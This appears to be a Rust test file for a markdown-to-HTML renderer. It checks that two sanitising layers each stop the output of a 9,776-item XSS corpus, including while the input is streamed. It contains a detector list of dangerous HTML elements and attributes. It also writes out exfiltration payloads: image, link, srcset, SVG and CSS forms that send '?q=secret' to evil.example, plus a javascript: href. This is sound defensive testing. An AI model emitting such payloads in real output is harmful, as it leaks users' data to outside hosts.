//! Two walls, each of which holds alone: with one taken away nothing dangerous comes out of 9,776 attacks, and with
//! both taken away the detector finds more than a thousand.

#![allow(clippy::print_stdout, reason = "the counts are part of the proof")]

mod common;

use pulldown_cmark::{Parser, html::push_html};
use render::markdown::{extensions, parse};
use render::writer::{Desk, Detail};
use render::{Stream, plain, wall, writer};
use scraper::{Html, node::Element};
use url::Url;

/// Elements that run, load, submit or change how the rest is read.
const ELEMENTS: [&str; 29] = [
    "script",
    "style",
    "link",
    "meta",
    "base",
    "title",
    "template",
    "noscript",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "img",
    "image",
    "video",
    "audio",
    "source",
    "track",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "map",
    "area",
    "svg",
    "foreignobject",
];

/// Attributes that load, submit or restyle.
const ATTRIBUTES: [&str; 14] = [
    "src",
    "srcset",
    "srcdoc",
    "action",
    "formaction",
    "background",
    "poster",
    "style",
    "data",
    "ping",
    "xlink:href",
    "id",
    "name",
    "target",
];

/// What is dangerous in `html`, as a page would read it.
fn dangers(html: &str) -> Vec<String> {
    let page = Html::parse_fragment(html);
    page.tree.values().filter_map(|node| node.as_element()).flat_map(dangers_of).collect()
}

fn dangers_of(element: &Element) -> Vec<String> {
    let tag = element.name().to_lowercase();
    let mut found = Vec::new();
    if ELEMENTS.contains(&tag.as_str()) {
        found.push(format!("<{tag}>"));
    }
    for (name, value) in element.attrs() {
        let name = name.to_lowercase();
        if name.starts_with("on") || ATTRIBUTES.contains(&name.as_str()) {
            found.push(format!("<{tag} {name}>"));
        }
        if ["href", "data-url"].contains(&name.as_str()) && !leads_outside(value) {
            found.push(format!("<{tag} {name}={value:?}>"));
        }
    }
    found
}

/// Whether this is an absolute address that only ever opens a browser or a mail program.
fn leads_outside(address: &str) -> bool {
    Url::parse(address).is_ok_and(|url| ["http", "https", "mailto"].contains(&url.scheme()))
}

fn with_no_wall(markdown: &str) -> String {
    let mut html = String::new();
    push_html(&mut html, Parser::new_ext(markdown, extensions()));
    html
}

fn with_the_first_wall(markdown: &str) -> String {
    let document = parse(markdown, "");
    let mut desk = Desk::default();
    let mut block = |piece: &_| {
        writer::html(piece, &[&document.definitions], &mut desk, Detail::Finished)
            .unwrap_or_else(|| plain(markdown).into_iter().map(|block| block.html).collect())
    };
    document.pieces.iter().map(&mut block).collect()
}

fn with_the_second_wall(markdown: &str) -> String {
    wall::clean(&with_no_wall(markdown))
        .unwrap_or_else(|| plain(markdown).into_iter().map(|block| block.html).collect())
}

fn with_both_walls(markdown: &str) -> String {
    render::render(markdown).into_iter().map(|block| block.html).collect()
}

/// Every view that a reader of the stream has, joined.
fn as_it_arrives(markdown: &str) -> String {
    let mut stream = Stream::new();
    let mut views = String::new();
    let mut rest = markdown;
    while !rest.is_empty() {
        let cut = rest.char_indices().nth(16).map_or(rest.len(), |(at, _)| at);
        stream.push(&rest[..cut]);
        rest = &rest[cut..];
        for block in stream.patch().into_iter().flat_map(|patch| patch.blocks) {
            views.push_str(&block.html);
        }
    }
    views
}

fn attacks() -> Option<Vec<String>> {
    let attacks: serde_json::Value =
        serde_json::from_str(&common::corpus("xss.json")?).expect("the corpus is JSON");
    let attacks = attacks.as_array().expect("a list").iter();
    Some(attacks.map(|attack| attack["p"].as_str().expect("text").to_owned()).collect())
}

fn check(name: &str, way: fn(&str) -> String) {
    let Some(attacks) = attacks() else { return };
    assert_eq!(attacks.len(), 9776, "the corpus is the one that was counted");
    for attack in &attacks {
        let html = way(attack);
        let found = dangers(&html);
        assert!(found.is_empty(), "{name}: {found:?} from {attack:?}\nin {html}");
    }
    println!("{name}: {} attacks, 0 dangers", attacks.len());
}

#[test]
fn the_first_wall_holds_alone() {
    check("first wall alone", with_the_first_wall);
}

#[test]
fn the_second_wall_holds_alone() {
    check("second wall alone", with_the_second_wall);
}

#[test]
fn both_walls_hold() {
    check("both walls", with_both_walls);
}

#[test]
fn the_walls_hold_while_the_attack_arrives() {
    check("streamed", as_it_arrives);
}

#[test]
fn the_detector_finds_what_passes_without_walls() {
    let Some(attacks) = attacks() else { return };
    let found = attacks.iter().filter(|attack| !dangers(&with_no_wall(attack)).is_empty()).count();
    println!("no wall: {found} of {} attacks are dangerous", attacks.len());
    assert!(found > 1000, "the detector sees dangers: {found}");
}

#[test]
fn the_fast_check_accepts_only_what_the_second_wall_keeps() {
    let Some(attacks) = attacks() else { return };
    let mut accepted = 0;
    for attack in &attacks {
        let html = with_no_wall(attack);
        if wall::is_clean(&html) {
            accepted += 1;
            assert!(dangers(&html).is_empty(), "accepted: {html}");
        }
        let ours = with_the_first_wall(attack);
        assert!(wall::is_clean(&ours), "our own HTML passes: {ours}");
    }
    println!("fast check: {accepted} of {} accepted as they are", attacks.len());
}

#[test]
fn forms_of_leaking_what_was_asked_send_nothing() {
    let forms = [
        "![a](https://evil.example/?q=secret)",
        "![a][r]\n\n[r]: https://evil.example/?q=secret",
        "<img src=\"https://evil.example/?q=secret\">",
        "<link rel=stylesheet href=https://evil.example/>",
        "<div style=\"background:url(https://evil.example/)\">x</div>",
        "<img srcset=\"https://evil.example/ 1x\">",
        "<svg><image href=\"https://evil.example/\"/></svg>",
        "<math><mtext><img src=https://evil.example/></mtext></math>",
        "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/}$",
        "[![a](https://evil.example/a.png)](https://evil.example/)",
    ];
    for form in forms {
        for way in [with_the_first_wall, with_the_second_wall, with_both_walls, as_it_arrives] {
            let html = way(form);
            assert!(dangers(&html).is_empty(), "{:?} from {form:?} in {html}", dangers(&html));
        }
    }
    let chip = with_both_walls(forms[0]);
    assert_eq!(
        chip, "<p><span class=\"picture-chip\" data-url=\"https://evil.example/?q=secret\">a</span></p>\n",
        "a remote picture is a chip that asks first"
    );
}
